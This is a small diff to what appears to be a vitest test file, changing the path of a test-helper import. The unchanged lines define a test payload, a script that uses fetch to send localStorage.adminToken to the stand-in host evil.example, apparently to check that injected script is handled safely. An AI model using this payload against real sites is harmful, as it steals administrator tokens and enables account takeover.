@@ -1,6 +1,6 @@
 import { createHash } from 'node:crypto';
 import { expect, test } from 'vitest';
-import { createTestOffice } from '../../../tests/support/create-test-office.ts';
+import { createTestOffice } from '../../../tests/support/create-test-admin.ts';
 
 const slug = 'keyword-research-in-hinglish';
 const script = 'fetch("https://evil.example/?" + localStorage.adminToken)';
